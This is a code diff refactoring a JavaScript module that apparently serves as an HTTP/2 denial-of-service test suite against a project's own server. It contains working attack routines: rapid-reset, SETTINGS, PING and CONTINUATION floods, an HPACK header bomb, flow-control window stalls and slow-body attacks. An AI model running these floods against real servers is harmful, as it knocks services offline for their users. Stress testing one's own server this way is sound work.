@@ -2,23 +2,9 @@
 
 import { setTimeout as sleep } from 'node:timers/promises';
 import { attacksOf, flood } from '../attacker.js';
-import {
-  begin,
-  beginStreams,
-  endHeaders,
-  endStream,
-  frame,
-  maxWindow,
-  onEachStream,
-  openWindow,
-  requestBlock,
-  streamAt,
-  streamsEach,
-  types,
-  uint32,
-} from '../http2-frames.js';
+import * as h2 from '../http2-frames.js';
 
-const whole = endHeaders | endStream;
+const whole = h2.endHeaders | h2.endStream;
 
 /**
  * @typedef {import('node:net').Socket} Socket
@@ -34,19 +20,17 @@ const whole = endHeaders | endStream;
 const floodOf = (pieceAt) => (attacker) =>
   attacker.reopen(20, (socket) => {
     socket.resume();
-    socket.write(begin());
+    socket.write(h2.begin());
     flood(socket, (place) => (attacker.isOver() ? undefined : pieceAt(place)));
   });
 
-/** @param {(place: number) => Buffer} make @param {number} [count] */
-const batch =
-  (make, count = 50) =>
-  (/** @type {number} */ turn) =>
-    Buffer.concat(Array.from({ length: count }, (_, place) => make(turn * count + place)));
+/** @param {(place: number) => Buffer} make */
+const batch = (make) => (/** @type {number} */ turn) =>
+  Buffer.concat(Array.from({ length: 50 }, (_, place) => make(turn * 50 + place)));
 
-const getHead = requestBlock('GET', '/api/Books?sort=title&q=a');
-const postHead = requestBlock('POST', '/api/methods/post', { 'content-type': 'text/plain' });
-const large = requestBlock('GET', '/openapi.json');
+const getHead = h2.requestBlock('GET', '/api/Books?sort=title&q=a');
+const postHead = h2.requestBlock('POST', '/api/methods/post', { 'content-type': 'text/plain' });
+const large = h2.requestBlock('GET', '/openapi.json');
 
 /**
  * Requests 5,000 large responses on 50 connections.
@@ -61,7 +45,7 @@ const largeResponses = (window, use = () => {}) => ({
   run: (/** @type {import('../attacker.js').Attacker} */ attacker) =>
     attacker.hold(50, (socket) => {
       socket.pause();
-      socket.write(beginStreams(large, window));
+      socket.write(h2.beginStreams(large, window));
       use(attacker, socket);
     }),
 });
@@ -71,52 +55,61 @@ const keptField = Buffer.concat([
   Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
   Buffer.alloc(4000, 'a'),
 ]);
-const bomb = Buffer.concat([requestBlock('GET', '/health'), Buffer.alloc(60, 0xbe)]);
+const bomb = Buffer.concat([h2.requestBlock('GET', '/health'), Buffer.alloc(60, 0xbe)]);
 
 export const http2Attacks = attacksOf(
   {
     'HTTP/2: requests that are reset at once, on 20 connections': floodOf(
       batch((place) =>
         Buffer.concat([
-          frame(types.headers, whole, streamAt(place), getHead),
-          frame(types.rstStream, 0, streamAt(place), uint32(8)),
+          h2.frame(h2.types.headers, whole, h2.streamAt(place), getHead),
+          h2.frame(h2.types.rstStream, 0, h2.streamAt(place), h2.uint32(8)),
         ]),
       ),
     ),
     'HTTP/2: floods of SETTINGS, on 20 connections': floodOf(
-      batch(() => frame(types.settings, 0, 0)),
+      batch(() => h2.frame(h2.types.settings, 0, 0)),
     ),
     'HTTP/2: floods of PING, on 20 connections': floodOf(
-      batch(() => frame(types.ping, 0, 0, Buffer.alloc(8))),
+      batch(() => h2.frame(h2.types.ping, 0, 0, Buffer.alloc(8))),
     ),
     'HTTP/2: headers that go on without end, on 20 connections': floodOf((turn) =>
       turn === 0
-        ? frame(types.headers, 0, 1, getHead)
-        : frame(types.continuation, 0, 1, requestBlock('GET', '/', { x: 'a'.repeat(100) })),
+        ? h2.frame(h2.types.headers, 0, 1, getHead)
+        : h2.frame(
+            h2.types.continuation,
+            0,
+            1,
+            h2.requestBlock('GET', '/', { x: 'a'.repeat(100) }),
+          ),
     ),
     'HTTP/2: headers that unpack to 240 KB, on 20 connections': floodOf((turn) =>
       turn === 0
-        ? frame(types.headers, whole, 1, Buffer.concat([getHead, keptField]))
-        : batch((place) => frame(types.headers, whole, streamAt(place + 1), bomb))(turn - 1),
+        ? h2.frame(h2.types.headers, whole, 1, Buffer.concat([getHead, keptField]))
+        : batch((place) => h2.frame(h2.types.headers, whole, h2.streamAt(place + 1), bomb))(
+            turn - 1,
+          ),
     ),
     'HTTP/2: 5,000 large answers in windows of nothing': largeResponses(0),
     'HTTP/2: 5,000 large answers in windows that open by a byte': largeResponses(
       0,
       (attacker, socket) => {
-        const crumbs = onEachStream((stream) => openWindow(stream, 1));
+        const crumbs = h2.onEachStream((stream) => h2.openWindow(stream, 1));
         socket.resume();
         flood(socket, () => (attacker.isOver() ? undefined : crumbs));
       },
     ),
-    'HTTP/2: 5,000 large answers on 50 connections that are not read': largeResponses(maxWindow),
+    'HTTP/2: 5,000 large answers on 50 connections that are not read': largeResponses(h2.maxWindow),
     'HTTP/2: 5,000 WebSockets on 50 connections that take nothing': (attacker) => {
       const path = '/api/ws/push?interval=0&size=60000&count=1000';
       const protocol = { ':protocol': 'websocket', 'sec-websocket-version': '13' };
-      const head = requestBlock('CONNECT', path, protocol);
-      const heads = onEachStream((stream) => frame(types.headers, endHeaders, stream, head));
+      const head = h2.requestBlock('CONNECT', path, protocol);
+      const heads = h2.onEachStream((stream) =>
+        h2.frame(h2.types.headers, h2.endHeaders, stream, head),
+      );
       return attacker.hold(50, (socket) => {
         socket.resume();
-        socket.write(Buffer.concat([begin(0), heads]));
+        socket.write(Buffer.concat([h2.begin(0), heads]));
       });
     },
     'HTTP/2: 5,000 bodies of a byte every two seconds': { seconds: 45, run: sendSlowBodies },
@@ -133,16 +126,17 @@ async function sendSlowBodies(attacker) {
   /** @type {Map<Socket, Set<number>>} */
   const open = new Map();
   await attacker.openMany(50, (socket) => {
-    const streams = Array.from({ length: streamsEach }, (_, place) => streamAt(place));
+    const streams = Array.from({ length: h2.streamsEach }, (_, place) => h2.streamAt(place));
     const own = new Set(streams);
     open.set(socket, own);
     watchStreams(socket, (stream) => own.delete(stream));
-    socket.write(beginStreams(postHead, undefined, endHeaders));
+    socket.write(h2.beginStreams(postHead, undefined, h2.endHeaders));
   });
   while (!attacker.isOver()) {
     for (const [socket, streams] of open) {
       if (socket.destroyed) open.delete(socket);
-      for (const stream of streams) socket.write(frame(types.data, 0, stream, Buffer.from('x')));
+      for (const stream of streams)
+        socket.write(h2.frame(h2.types.data, 0, stream, Buffer.from('x')));
     }
     await sleep(2000);
   }
@@ -165,8 +159,8 @@ function watchStreams(socket, onEnd) {
     while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
       const [type, bits = 0] = [rest[3], rest[4]];
       const isLast =
-        type === types.data || type === types.headers ? (bits & endStream) !== 0 : false;
-      if (isLast || type === types.rstStream) onEnd(rest.readUInt32BE(5));
+        type === h2.types.data || type === h2.types.headers ? (bits & h2.endStream) !== 0 : false;
+      if (isLast || type === h2.types.rstStream) onEnd(rest.readUInt32BE(5));
       rest = rest.subarray(9 + rest.readUIntBE(0, 3));
     }
   });
